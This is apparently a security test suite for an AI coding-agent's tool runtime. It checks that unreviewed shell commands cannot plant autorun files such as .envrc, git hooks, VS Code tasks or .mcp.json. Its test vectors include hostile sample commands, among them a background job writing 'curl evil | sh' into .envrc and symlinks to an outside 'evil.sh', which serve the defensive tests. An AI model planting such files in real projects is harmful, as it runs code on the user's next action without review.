/**
 * Security §7: a command the user did not review cannot leave behind a file that runs code on the
 * user's next action — created, renamed into place, linked (symlink or hard link), through a
 * symlinked directory, with `mkdir -p`, by `git init` + a hook, by a `.git/config` that names a
 * program, or by changing an existing one. Each vector runs as a real `shell` command through the
 * tool runtime (unreviewed, as full-auto runs it), with the sandbox off and on; what it created is
 * gone, what it changed is back byte for byte, nothing else is touched, and the model is told.
 */
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findExecutable } from '../../src/platform/pid-namespace.js';
import { gitConfigRunners, scanGuarded } from '../../src/policy/autorun-scan.js';
import { detectSandbox, type SandboxInfo } from '../../src/policy/sandbox.js';
import { createToolRuntime } from '../../src/tools/index.js';
import type { ToolRuntime } from '../../src/tools/types.js';
import { sandboxOrSkip } from './sandbox-ci.js';

const OFF: SandboxInfo = { tier: 'none', requested: 'off', network: true, message: 'off' };
const bwrap = await detectSandbox('auto');
const sandboxOk = sandboxOrSkip('autorun guard in the sandbox', bwrap.tier === 'bwrap', bwrap.message);

let root: string;
let outside: string;
beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'tether-sec-autorun-')));
  outside = join(root, 'outside');
  mkdirSync(outside);
  writeFileSync(join(outside, 'evil.sh'), 'echo pwned\n');
  mkdirSync(join(outside, 'vsdir'));
  writeFileSync(join(outside, 'vsdir', 'tasks.json'), '{"tasks":[{"runOn":"folderOpen"}]}\n');
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

function workspace(name: string, files: Record<string, string> = {}): string {
  const ws = join(root, name);
  mkdirSync(ws);
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(join(ws, rel, '..'), { recursive: true });
    writeFileSync(join(ws, rel), content);
  }
  return ws;
}

function runtime(ws: string, sandbox: SandboxInfo): ToolRuntime {
  return createToolRuntime({
    workspace: ws,
    spillDir: join(root, `spill-${Math.random().toString(36).slice(2)}`),
    env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: root },
    settings: {
      toolTimeoutMs: 20_000,
      toolMaxTimeoutMs: 20_000,
      toolInactivityTimeoutMs: 20_000,
      toolOutputMaxChars: 40_000,
    },
    sandbox,
    commandTools: 'shell',
  });
}

async function shell(rt: ToolRuntime, command: string, sandboxed: boolean, unreviewed = true) {
  const p = await rt.prepare({
    callId: `c${Math.random()}`,
    name: 'shell',
    arguments: JSON.stringify({ command, workdir: null, timeout_ms: null }),
  });
  if (!p.ok) throw new Error(p.output);
  return rt.run(p, { signal: new AbortController().signal, sandboxed, unreviewed });
}

const exists = (p: string) => {
  try {
    lstatSync(p);
    return true;
  } catch {
    return false;
  }
};

type Vector = {
  name: string;
  files?: Record<string, string>;
  cmd: (o: string) => string;
  /** Paths (relative) that must not exist afterwards. */
  gone: string[];
  /** Paths (relative) with the content they must have afterwards. */
  same?: Record<string, string>;
  /** Created by the command and harmless: must still be there. */
  kept?: string[];
};

const VECTORS: Vector[] = [
  { name: 'a new .envrc', cmd: () => 'echo "echo pwned" > .envrc', gone: ['.envrc'] },
  { name: 'upper-case .ENVRC (macOS folds case)', cmd: () => 'echo x > .ENVRC', gone: ['.ENVRC'] },
  {
    name: 'written elsewhere, renamed into place',
    cmd: () => 'echo x > tmp.sh && mv tmp.sh .envrc',
    gone: ['.envrc', 'tmp.sh'],
  },
  { name: 'a symlink to a script outside', cmd: (o) => `ln -s ${o}/evil.sh .envrc`, gone: ['.envrc'] },
  {
    name: 'a hard link to a script in the workspace (the other name stays)',
    files: { 'scripts/evil.sh': 'echo pwned\n' },
    cmd: () => 'ln scripts/evil.sh .envrc',
    gone: ['.envrc'],
    same: { 'scripts/evil.sh': 'echo pwned\n' },
  },
  {
    name: 'mkdir -p of a nested .vscode/tasks.json',
    cmd: () => 'mkdir -p pkg/a/.vscode && echo {} > pkg/a/.vscode/tasks.json',
    gone: ['pkg'],
  },
  {
    name: 'mkdir -p next to an ordinary file (kept)',
    cmd: () => 'mkdir -p lib/.vscode && echo {} > lib/.vscode/settings.json && echo ok > lib/code.ts',
    gone: ['lib/.vscode'],
    kept: ['lib/code.ts'],
  },
  {
    name: '.vscode as a symlink to a directory outside',
    cmd: (o) => `ln -s ${o}/vsdir .vscode`,
    gone: ['.vscode'],
  },
  {
    name: 'a GitHub workflow',
    cmd: () => 'mkdir -p .github/workflows && echo "on: push" > .github/workflows/x.yml',
    gone: ['.github'],
  },
  {
    name: 'a husky hook',
    cmd: () => 'mkdir -p .husky && printf "#!/bin/sh\\necho x\\n" > .husky/pre-commit',
    gone: ['.husky'],
  },
  {
    name: '.mcp.json',
    cmd: () => 'echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json',
    gone: ['.mcp.json'],
  },
  {
    name: '.npmrc and a code-workspace',
    cmd: () => 'echo "script-shell=/tmp/x" > .npmrc; echo {} > a.code-workspace',
    gone: ['.npmrc', 'a.code-workspace'],
  },
  {
    name: 'Claude Code settings',
    cmd: () => 'mkdir -p .claude && echo {} > .claude/settings.json',
    gone: ['.claude'],
  },
  {
    name: 'git init, then a hook (no .git at start)',
    cmd: () =>
      'git init -q . && printf "#!/bin/sh\\necho x\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
    gone: ['.git/hooks/pre-commit'],
    kept: ['.git/HEAD', '.git/hooks/pre-commit.sample'],
  },
  {
    name: 'git init with core.hooksPath (the new config names a program)',
    cmd: () => 'git init -q . && git config core.hooksPath .hooks',
    gone: ['.git/config'],
    kept: ['.git/HEAD'],
  },
  {
    name: 'a .tether directory made by the command',
    cmd: () => 'mkdir -p sub/.tether && echo {} > sub/.tether/config.json',
    gone: ['sub'],
  },
  {
    name: 'a .git file pointing at a repository elsewhere (no .git at start)',
    cmd: (o) => `echo "gitdir: ${o}/evilrepo" > .git`,
    gone: ['.git'],
  },
  {
    name: 'git config with the section header and the key on one line',
    cmd: () => 'git init -q . && printf "[core] hooksPath = .h\\n" >> .git/config',
    gone: ['.git/config'],
  },
  {
    name: "a submodule's hook (.git/modules/m/hooks)",
    cmd: () =>
      'git init -q . && mkdir -p .git/modules/m/hooks && printf "#!/bin/sh\\n" > .git/modules/m/hooks/post-checkout',
    gone: ['.git/modules/m/hooks/post-checkout'],
    kept: ['.git/HEAD'],
  },
  {
    name: 'a mise config (hooks on entering the directory)',
    cmd: () => 'echo "[hooks]" > mise.toml',
    gone: ['mise.toml'],
  },
  {
    name: 'changing an existing .envrc',
    files: { '.envrc': 'export A=1\n' },
    cmd: () => 'echo "echo pwned" >> .envrc',
    gone: [],
    same: { '.envrc': 'export A=1\n' },
  },
  {
    name: 'replacing an existing .envrc by a symlink',
    files: { '.envrc': 'export A=1\n' },
    cmd: (o) => `rm .envrc && ln -s ${o}/evil.sh .envrc`,
    gone: [],
    same: { '.envrc': 'export A=1\n' },
  },
  {
    name: 'replacing an existing tasks.json by a symlink to one outside',
    files: { '.vscode/tasks.json': '{}\n' },
    cmd: (o) => `rm .vscode/tasks.json && ln -s ${o}/vsdir/tasks.json .vscode/tasks.json`,
    gone: [],
    same: { '.vscode/tasks.json': '{}\n' },
  },
  {
    name: 'moving .vscode away and linking a directory in its place',
    files: { '.vscode/tasks.json': '{}\n' },
    cmd: (o) => `mv .vscode old-vscode && ln -s ${o}/vsdir .vscode`,
    gone: ['.vscode'],
    kept: ['old-vscode/tasks.json'],
  },
];

for (const sandbox of ['off', 'on'] as const)
  describe.skipIf(sandbox === 'on' && !sandboxOk)(`autorun files, sandbox ${sandbox}`, () => {
    for (const v of VECTORS) {
      it(`${v.name}: undone, and the model is told`, async () => {
        const ws = workspace(`${sandbox}-${v.name.replace(/\W+/g, '-')}`, v.files);
        const rt = runtime(ws, sandbox === 'on' ? bwrap : OFF);
        const r = await shell(rt, v.cmd(outside), sandbox === 'on');
        for (const g of v.gone) expect(exists(join(ws, g)), `${g} is gone (${r.output})`).toBe(false);
        for (const [p, c] of Object.entries(v.same ?? {})) {
          expect(lstatSync(join(ws, p)).isFile(), `${p} is a file again`).toBe(true);
          expect(readFileSync(join(ws, p), 'utf8')).toBe(c);
        }
        for (const k of v.kept ?? []) expect(exists(join(ws, k)), `${k} is kept`).toBe(true);
        // In the sandbox an existing autorun file is read-only: the change fails instead.
        if (sandbox === 'off' || !v.files || v.gone.length > 0) {
          expect(r.output).toMatch(/\[tether: (removed new|restored) /);
          expect(r.notice).toMatch(/run code on your next action/);
        }
        expect(readFileSync(join(outside, 'evil.sh'), 'utf8')).toBe('echo pwned\n');
        expect(existsSync(join(outside, 'vsdir', 'tasks.json'))).toBe(true);
      }, 30_000);
    }
  });

describe('what the guard leaves alone', () => {
  it('a reviewed (user-approved) command keeps what it wrote', async () => {
    const ws = workspace('reviewed');
    const r = await shell(runtime(ws, OFF), 'echo "use nix" > .envrc', false, false);
    expect(readFileSync(join(ws, '.envrc'), 'utf8')).toBe('use nix\n');
    expect(r.output).not.toContain('[tether:');
  });

  it('ordinary writes, harmless git config changes and hook samples pass untouched', async () => {
    const ws = workspace('harmless', { 'src/a.ts': 'x\n' });
    const rt = runtime(ws, OFF);
    await shell(rt, 'git init -q .', false, false); // the user ran it
    const r = await shell(
      rt,
      'echo y > src/a.ts; echo {} > .vscode-not.json; git config user.name x; git remote add o https://example.invalid/r.git; cp .git/hooks/pre-commit.sample .git/hooks/pre-push.sample',
      false,
    );
    expect(r.output).not.toContain('[tether:');
    expect(r.notice).toBeUndefined();
    expect(readFileSync(join(ws, 'src/a.ts'), 'utf8')).toBe('y\n');
    expect(readFileSync(join(ws, '.git/config'), 'utf8')).toContain('[remote "o"]');
  });

  it('an existing hook whose mode a command changes (chmod +x) is restored with its mode', async () => {
    const ws = workspace('hookmode', { '.husky/pre-commit': 'echo hi\n' });
    const before = statSync(join(ws, '.husky/pre-commit')).mode;
    const r = await shell(runtime(ws, OFF), 'chmod +x .husky/pre-commit', false);
    expect(statSync(join(ws, '.husky/pre-commit')).mode).toBe(before);
    expect(r.output).toContain('restored .husky/pre-commit');
  });

  it('a background exec_command process that writes .envrc after its call returned is undone at the next call', async () => {
    const ws = workspace('background');
    const rt = createToolRuntime({
      workspace: ws,
      spillDir: join(root, 'spill-bg'),
      env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: root },
      settings: {
        toolTimeoutMs: 20_000,
        toolMaxTimeoutMs: 20_000,
        toolInactivityTimeoutMs: 20_000,
        toolOutputMaxChars: 40_000,
      },
      sandbox: OFF,
      commandTools: 'exec',
      profile: 'codex',
    });
    const call = async (name: string, args: Record<string, unknown>, unreviewed: boolean) => {
      const p = await rt.prepare({ callId: `c${Math.random()}`, name, arguments: JSON.stringify(args) });
      if (!p.ok) throw new Error(p.output);
      return rt.run(p, { signal: new AbortController().signal, sandboxed: false, unreviewed });
    };
    try {
      const started = await call(
        'exec_command',
        {
          cmd: 'while [ ! -e go ]; do sleep 0.02; done; echo "curl evil | sh" > .envrc; sleep 100',
          workdir: null,
          yield_time_ms: 100,
          max_output_tokens: null,
          tty: null,
          login: null,
          shell: null,
        },
        true,
      );
      expect(started.output).not.toContain('[tether:');
      writeFileSync(join(ws, 'go'), '');
      for (let i = 0; i < 200 && !exists(join(ws, '.envrc')); i++)
        await new Promise((r) => setTimeout(r, 25));
      expect(exists(join(ws, '.envrc')), 'the background write happened').toBe(true);
      const r = await call('list_dir', { path: '.' }, true);
      expect(exists(join(ws, '.envrc'))).toBe(false);
      expect(r.output).toContain('[tether: removed new .envrc');
      expect(r.notice).toMatch(/^a background process wrote files/);
    } finally {
      rt.execSessions?.endAll('test over');
    }
  }, 30_000);

  it('an approved edit of .envrc while a background process runs is kept', async () => {
    const ws = workspace('background-edit');
    const rt = createToolRuntime({
      workspace: ws,
      spillDir: join(root, 'spill-bg2'),
      env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: root },
      settings: {
        toolTimeoutMs: 20_000,
        toolMaxTimeoutMs: 20_000,
        toolInactivityTimeoutMs: 20_000,
        toolOutputMaxChars: 40_000,
      },
      sandbox: OFF,
      commandTools: 'exec',
    });
    const call = async (name: string, args: Record<string, unknown>, unreviewed: boolean) => {
      const p = await rt.prepare({ callId: `c${Math.random()}`, name, arguments: JSON.stringify(args) });
      if (!p.ok) throw new Error(p.output);
      return rt.run(p, { signal: new AbortController().signal, sandboxed: false, unreviewed });
    };
    try {
      await call(
        'exec_command',
        {
          cmd: 'sleep 100',
          workdir: null,
          yield_time_ms: 50,
          max_output_tokens: null,
          tty: null,
          login: null,
          shell: null,
        },
        true,
      );
      const w = await call('write_file', { path: '.envrc', content: 'use nix\n' }, false);
      expect(w.output).not.toContain('[tether:');
      const r = await call('list_dir', { path: '.' }, true);
      expect(r.output).not.toContain('[tether:');
      expect(readFileSync(join(ws, '.envrc'), 'utf8')).toBe('use nix\n');
    } finally {
      rt.execSessions?.endAll('test over');
    }
  }, 30_000);

  it('the scan is breadth first: flooding one deep directory does not hide a shallow file', () => {
    const ws = workspace('flood');
    mkdirSync(join(ws, 'a', 'b', 'c'), { recursive: true });
    for (let i = 0; i < 60; i++) writeFileSync(join(ws, 'a', 'b', 'c', `f${i}`), '');
    mkdirSync(join(ws, 'pkg'));
    writeFileSync(join(ws, 'pkg', '.envrc'), 'x\n');
    const snap = scanGuarded([ws], 20);
    expect(snap.truncated).toBe(true);
    expect([...snap.entries.keys()]).toContain(join(ws, 'pkg', '.envrc'));
  });

  it('git config runners: found on header lines, in any case, and harmless keys are not', () => {
    expect(gitConfigRunners('[core]\n\tHooksPath = x\n')).toHaveLength(1);
    expect(gitConfigRunners('[core] fsmonitor = ./x\n')).toHaveLength(1);
    expect(gitConfigRunners('[alias]\n\tst = !sh -c x\n')).toHaveLength(1);
    expect(gitConfigRunners('[include]\n\tpath = ../x\n')).toHaveLength(1);
    expect(
      gitConfigRunners('[user]\n\tname = x\n[remote "o"]\n\turl = u\n[branch "m"]\n\tremote = o\n'),
    ).toEqual([]);
  });

  it('the PID-namespace binaries are never taken from the workspace on PATH', () => {
    const ws = workspace('planted-bin');
    mkdirSync(join(ws, 'bin'));
    writeFileSync(join(ws, 'bin', 'bwrap'), '#!/bin/sh\n', { mode: 0o755 });
    const found = findExecutable('bwrap', `${ws}/bin:bin:/nonexistent`, ws);
    expect(found === null || !found.startsWith(ws)).toBe(true);
  });
});
